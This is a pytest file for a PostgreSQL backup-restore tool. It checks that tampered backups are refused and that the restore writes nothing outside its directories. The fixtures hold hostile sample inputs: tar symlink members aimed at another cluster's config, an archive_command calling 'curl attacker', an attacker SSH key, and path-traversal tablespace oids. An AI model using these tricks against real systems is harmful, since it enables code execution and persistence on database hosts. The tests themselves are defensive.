"""A tampered backup cannot make a restore write outside its directories (issue 14, findings 1 and 2).

An attacker who can write the repository rewrites a backup's tar, its
manifest and its record together (they are consistent with each other), so
each test here crafts all three. Every refusal must come with a clear
message, and nothing outside the restore's directories may change.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import tarfile
import tempfile
from pathlib import Path
from typing import Dict, List, Optional, Tuple

import pytest

from ansible_collections.restorekeeper.postgresql.plugins.module_utils.repo.catalog import BackupInfo, Catalog
from ansible_collections.restorekeeper.postgresql.plugins.module_utils.common.compression import StreamCompressor
from ansible_collections.restorekeeper.postgresql.plugins.module_utils.common.errors import CorruptObject, RestorekeeperError
from ansible_collections.restorekeeper.postgresql.plugins.module_utils.restore.restore import (
    Timer, lay_down_backup, tablespace_locations)
from ansible_collections.restorekeeper.postgresql.plugins.module_utils.pg.safetree import SafeTree
from ansible_collections.restorekeeper.postgresql.plugins.module_utils.storage.posix import PosixStorage
from ansible_collections.restorekeeper.postgresql.plugins.module_utils.pg.tarstream import digest_tar

LABEL = "20261201-000000F"
PREFIX = "main/backup/%s/" % LABEL
VICTIM = b"archive_command = 'true'  # another cluster's setting\n"

# (name, kind, payload or link target); kind is "file", "dir" or "symlink"
Member = Tuple[str, str, bytes]


def tar_of(members: List[Member]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, kind, data in members:
            info = tarfile.TarInfo(name)
            if kind == "dir":
                info.type = tarfile.DIRTYPE
                archive.addfile(info)
            elif kind == "symlink":
                info.type = tarfile.SYMTYPE
                info.linkname = data.decode()
                archive.addfile(info)
            else:
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
    chunks: List[bytes] = []
    compressor = StreamCompressor(chunks.append, "zstd", 3)
    compressor.write(buffer.getvalue())
    compressor.finish()
    return b"".join(chunks)


def manifest_of(files: Dict[str, bytes], algorithms: Optional[Dict[str, str]] = None) -> bytes:
    """A manifest as pg_basebackup writes it, its own checksum included (as an attacker can compute it)."""
    entries = []
    for path, data in files.items():
        algorithm = (algorithms or {}).get(path, "SHA256")
        entry = {"Path": path, "Size": len(data), "Last-Modified": "2026-12-01 00:00:00 GMT",
                 "Checksum-Algorithm": algorithm}
        if algorithm != "NONE":
            entry["Checksum"] = hashlib.sha256(data).hexdigest()
        entries.append(json.dumps(entry))
    body = ('{ "PostgreSQL-Backup-Manifest-Version": 1,\n"Files": [\n' + ",\n".join(entries) + '\n],\n'
            '"WAL-Ranges": [\n{ "Timeline": 1, "Start-LSN": "0/2000028", "End-LSN": "0/2000100" }\n],\n').encode()
    return body + ('"Manifest-Checksum": "%s"}\n' % hashlib.sha256(body).hexdigest()).encode()


BASE_FILES = {"PG_VERSION": b"18\n", "global/pg_control": b"c" * 100, "backup_label": b"START WAL LOCATION: 0/2000028\n"}


def store(storage: PosixStorage, members: List[Member], listed: Dict[str, bytes],
          algorithms: Optional[Dict[str, str]] = None, tablespaces: Optional[List[dict]] = None,
          tablespace_archives: Optional[Dict[str, List[Member]]] = None) -> BackupInfo:
    """Write a backup set: base.tar.zst (plus one archive per tablespace), its manifest and its record."""
    archives = [{"name": "base.tar", "key": "base.tar.zst", "tablespace_oid": None}]
    storage.put_bytes(PREFIX + "base.tar.zst", tar_of(members))
    for oid, content in (tablespace_archives or {}).items():
        key = (oid if oid.isdigit() else "tablespace") + ".tar.zst"  # an attacker's oid need not make a valid key
        archives.append({"name": key[:-4], "key": key, "tablespace_oid": oid})
        storage.put_bytes(PREFIX + key, tar_of(content))
    raw = manifest_of(listed, algorithms)
    storage.put_bytes(PREFIX + "backup_manifest", raw)
    record = {"label": LABEL, "type": "full", "parent": None, "compression": "zstd", "archives": archives,
              "tablespaces": tablespaces or [], "manifest": {"sha256": hashlib.sha256(raw).hexdigest()}}
    storage.put_bytes(PREFIX + "backup.json", json.dumps(record).encode())
    return BackupInfo(LABEL, "full", None, record)


def base_members() -> List[Member]:
    return [("global", "dir", b"")] + [(name, "file", data) for name, data in BASE_FILES.items()]


@pytest.fixture
def places(tmp_path):
    """The repository, the restore's data directory, and a directory outside it holding a victim file.
    The victim lives at a short path: a tar (ustar) link name holds at most 100 bytes, and pytest's
    temporary paths under xdist are longer."""
    outside = Path(tempfile.mkdtemp(prefix="rk-victim-"))
    (outside / "postgresql.auto.conf").write_bytes(VICTIM)
    yield PosixStorage(str(tmp_path / "repo")), tmp_path / "restore" / "data", outside
    shutil.rmtree(outside, ignore_errors=True)


def assert_outside_untouched(outside) -> None:
    assert sorted(os.listdir(outside)) == ["postgresql.auto.conf"]
    assert (outside / "postgresql.auto.conf").read_bytes() == VICTIM


def refused(storage, backup: BackupInfo, pgdata, locations=None) -> RestorekeeperError:
    with pytest.raises(RestorekeeperError) as caught:
        lay_down_backup(storage, "main", backup, str(pgdata), locations or {}, Timer())
    assert "Traceback" not in str(caught.value)
    return caught.value


def refused_tar(storage, pgdata, members: List[Member], listed: Optional[Dict[str, bytes]] = None,
                **manifest_options) -> RestorekeeperError:
    """The refusal met by a backup of the base files plus `members`, its manifest listing the base files
    plus `listed` (what a tampered backup declares, consistent with its tar)."""
    backup = store(storage, base_members() + members, dict(BASE_FILES, **(listed or {})), **manifest_options)
    return refused(storage, backup, pgdata)


def test_an_intact_backup_is_laid_down(places):
    storage, pgdata, outside = places
    backup = store(storage, base_members() + [("backup_manifest", "file", b"the tar's own copy")], BASE_FILES)
    lay_down_backup(storage, "main", backup, str(pgdata), {}, Timer())
    assert (pgdata / "global" / "pg_control").read_bytes() == BASE_FILES["global/pg_control"]
    # The repository's verified manifest, not the tar's copy.
    assert (pgdata / "backup_manifest").read_bytes() == storage.get_bytes(PREFIX + "backup_manifest")


def test_a_file_written_through_a_symlink_member_is_refused(places):
    """(a) A link to another cluster's postgresql.auto.conf, then a file of that name."""
    storage, pgdata, outside = places
    evil = b"archive_command = 'curl attacker'\n"
    error = refused_tar(storage, pgdata, [
        ("postgresql.auto.conf", "symlink", str(outside / "postgresql.auto.conf").encode()),
        ("postgresql.auto.conf", "file", evil)], {"postgresql.auto.conf": evil})
    assert "is refused" in error.message and "is a symlink" in error.message and "postgresql.auto.conf" in error.message
    assert "tampered" in error.hint
    assert_outside_untouched(outside)
    assert not os.path.lexists(pgdata / "postgresql.auto.conf")


def test_files_under_a_directory_symlink_member_are_refused(places):
    """(b) A link to a directory outside, then files under it."""
    storage, pgdata, outside = places
    key = b"ssh-ed25519 AAAA attacker\n"
    error = refused_tar(storage, pgdata, [("base", "dir", b""), ("base/keys", "symlink", str(outside).encode()),
                                          ("base/keys/authorized_keys", "file", key)], {"base/keys/authorized_keys": key})
    assert "base/keys" in error.message and "symlink" in error.message
    assert_outside_untouched(outside)


def test_a_symlink_planted_in_the_target_is_never_followed(places):
    """Whoever put a link in the way (not the tar), nothing is written through it."""
    storage, pgdata, outside = places
    backup = store(storage, base_members(), BASE_FILES)
    pgdata.mkdir(parents=True)
    os.symlink(str(outside), str(pgdata / "global"))
    error = refused(storage, backup, pgdata)
    assert "global is a symlink or not a directory" in error.message
    assert_outside_untouched(outside)


def test_a_symlink_where_postgresql_puts_one_is_not_created_from_the_tar(places):
    """pg_tblspc/<oid> of the base archive: accepted, but linked by the restore to the location it decided."""
    storage, pgdata, outside = places
    decided = pgdata.parent / "ts"
    files = {"PG_18_202406281/16384/1": b"t" * 10}
    listed = dict(BASE_FILES, **{"pg_tblspc/16500/" + name: data for name, data in files.items()})
    listed["tablespace_map"] = b"16500 /srv/original\n"
    backup = store(storage, base_members() + [("tablespace_map", "file", listed["tablespace_map"]),
                                              ("pg_tblspc/16500", "symlink", str(outside).encode())], listed,
                   tablespaces=[{"oid": "16500", "name": "far", "location": "/srv/original"}],
                   tablespace_archives={"16500": [("PG_18_202406281", "dir", b"")] + [
                       (name, "file", data) for name, data in files.items()]})
    lay_down_backup(storage, "main", backup, str(pgdata), {"16500": str(decided)}, Timer())
    assert os.readlink(pgdata / "pg_tblspc" / "16500") == str(decided)
    assert (decided / "PG_18_202406281" / "16384" / "1").read_bytes() == b"t" * 10
    assert not (pgdata / "tablespace_map").exists()
    assert_outside_untouched(outside)


def test_a_symlink_anywhere_else_is_refused_even_when_it_points_inside(places):
    storage, pgdata, outside = places
    error = refused_tar(storage, pgdata, [("pg_wal", "symlink", b"global")])
    assert "'pg_wal' is a symlink" in error.message
    assert not os.path.lexists(pgdata / "pg_wal")


def test_a_manifest_entry_without_checksum_is_refused_before_anything_is_written(places):
    """(c) The extra file is listed, with checksum algorithm NONE."""
    storage, pgdata, outside = places
    extra = b"shared_preload_libraries = 'attacker'\n"
    error = refused_tar(storage, pgdata, [("postgresql.auto.conf", "file", extra)], {"postgresql.auto.conf": extra},
                        algorithms={"postgresql.auto.conf": "NONE"})
    assert "postgresql.auto.conf: the manifest gives no checksum (algorithm NONE)" in error.message
    assert not pgdata.exists() or not os.listdir(pgdata)
    assert_outside_untouched(outside)


def test_a_file_missing_from_the_manifest_is_refused_before_it_is_written(places):
    storage, pgdata, outside = places
    error = refused_tar(storage, pgdata, [("postgresql.auto.conf", "file", b"x = 1\n")])
    assert "postgresql.auto.conf is not in the backup's manifest" in error.message
    assert not (pgdata / "postgresql.auto.conf").exists()


@pytest.mark.parametrize("oid", ["ABSOLUTE", "../x", "16500/../../x"])
def test_a_record_whose_tablespace_oid_is_a_path_is_refused(places, oid):
    """(d) The oid was joined into a path: the file there was unlinked and replaced by a symlink."""
    storage, pgdata, outside = places
    oid = str(outside / "postgresql.auto.conf") if oid == "ABSOLUTE" else oid
    backup = store(storage, base_members(), BASE_FILES,
                   tablespaces=[{"oid": oid, "name": "far", "location": "/srv/original"}],
                   tablespace_archives={oid: [("PG_18_202406281", "dir", b"")]})
    with pytest.raises(RestorekeeperError) as caught:
        tablespace_locations(backup, {"far": str(pgdata.parent / "ts")})
    assert "tablespace oid %r is not a number" % oid in caught.value.message
    error = refused(storage, backup, pgdata, {oid: str(pgdata.parent / "ts")})
    assert "is not a number" in error.message
    assert_outside_untouched(outside)
    assert not pgdata.exists()


def test_a_record_location_is_used_only_in_place_and_only_when_plain(places):
    storage, pgdata, outside = places
    original = str(pgdata.parent / "ts-original")
    backup = store(storage, base_members(), BASE_FILES, tablespaces=[{"oid": "16500", "name": "far", "location": original}])
    with pytest.raises(RestorekeeperError) as caught:
        tablespace_locations(backup, {})
    assert "takes no location from the backup's record" in caught.value.message
    assert "far=DIR" in caught.value.hint and original in caught.value.hint
    assert tablespace_locations(backup, {"far": original}) == {"16500": original}
    assert tablespace_locations(backup, {}, trust_record=True) == {"16500": original}
    for location in ("relative/dir", "/srv/../etc", "/srv//ts/"):
        backup.record["tablespaces"][0]["location"] = location
        with pytest.raises(RestorekeeperError) as caught:
            tablespace_locations(backup, {}, trust_record=True)
        assert "is not an absolute path" in caught.value.message or "is not a normalised path" in caught.value.message


def test_a_tablespace_map_that_differs_from_the_record_is_refused(places):
    storage, pgdata, outside = places
    decided = pgdata.parent / "ts"
    listed = dict(BASE_FILES, tablespace_map=b"16501 /srv/other\n")
    backup = store(storage, base_members() + [("tablespace_map", "file", listed["tablespace_map"])], listed,
                   tablespaces=[{"oid": "16500", "name": "far", "location": "/srv/original"}],
                   tablespace_archives={"16500": [("PG_18_202406281", "dir", b"")]})
    error = refused(storage, backup, pgdata, {"16500": str(decided)})
    assert "tablespace_map in the backup lists 16501 at /srv/other but its record lists 16500 at /srv/original" \
        in error.message
    assert not decided.exists()  # refused before the tablespace archive was extracted


def test_a_tablespace_archive_member_outside_the_version_directory_is_refused(places):
    storage, pgdata, outside = places
    decided = pgdata.parent / "ts"
    listed = dict(BASE_FILES, **{"tablespace_map": b"16500 /srv/original\n", "pg_tblspc/16500/.ssh/authorized_keys": b"k"})
    backup = store(storage, base_members() + [("tablespace_map", "file", listed["tablespace_map"])], listed,
                   tablespaces=[{"oid": "16500", "name": "far", "location": "/srv/original"}],
                   tablespace_archives={"16500": [(".ssh/authorized_keys", "file", b"k")]})
    error = refused(storage, backup, pgdata, {"16500": str(decided)})
    assert "outside PostgreSQL's PG_<version>_<catalog> directory" in error.message
    assert not (decided / ".ssh").exists()


def test_a_record_copied_under_another_label_is_refused(tmp_path):
    """(e) An older set's backup.json put in place of a newer one's."""
    storage = PosixStorage(str(tmp_path / "repo"))
    record = {"label": "20261201-000000F", "type": "full", "parent": None}
    storage.put_bytes("main/backup/20261201-000000F/backup.json", json.dumps(record).encode())
    storage.put_bytes("main/backup/20261202-000000F/backup.json", json.dumps(record).encode())

    class Repo:  # the catalog reads only .storage for backups
        pass

    repository = Repo()
    repository.storage = storage
    catalog = Catalog(repository, "main")
    assert [b.label for b in catalog.backups()] == ["20261201-000000F"]
    with pytest.raises(CorruptObject) as caught:
        catalog.get("20261202-000000F")
    assert "says it is backup '20261201-000000F', not '20261202-000000F'" in caught.value.message
    assert catalog.incomplete() == []  # never pruned as an interrupted set either


def test_the_digest_reports_links_and_duplicates_for_verify():
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name in ("a", "a"):
            info = tarfile.TarInfo(name)
            archive.addfile(info, io.BytesIO(b""))
        link = tarfile.TarInfo("pg_wal")
        link.type = tarfile.SYMTYPE
        link.linkname = "/elsewhere"
        archive.addfile(link)
    digest = digest_tar(io.BytesIO(raw.getvalue()))
    assert digest.duplicates == ["a"]
    assert [(m.name, m.kind, m.linkname) for m in digest.others] == [("pg_wal", "symlink", "/elsewhere")]


def test_safe_tree_never_truncates_an_existing_name(tmp_path):
    (tmp_path / "outside").write_bytes(b"keep")
    root = tmp_path / "root"
    root.mkdir()
    os.symlink(str(tmp_path / "outside"), str(root / "file"))
    with SafeTree(str(root)) as tree, pytest.raises(CorruptObject) as caught:
        tree.create_file("file")
    assert "exists already" in caught.value.message
    assert (tmp_path / "outside").read_bytes() == b"keep"
